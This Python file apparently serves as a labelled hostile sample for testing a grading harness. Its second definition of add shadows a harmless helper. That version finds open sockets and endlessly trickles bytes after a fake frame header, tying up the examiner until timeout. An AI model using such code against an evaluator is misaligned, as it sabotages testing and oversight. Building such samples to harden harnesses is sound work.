"""Keeps the examiner waiting for the rest of a frame, a byte at a time.

Class: exhaustion
Expect: timeout
"""

import os
import stat
import time

LOOT = []


def add(a, b):
    return a + b


def double(x):
    return 2 * x


def name():
    return "step"


def add(a, b):
    for number in range(256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                os.write(number, b"\x00\x00\xff\xff")
                while True:
                    os.write(number, b"x")
                    time.sleep(0.01)
        except OSError:
            continue
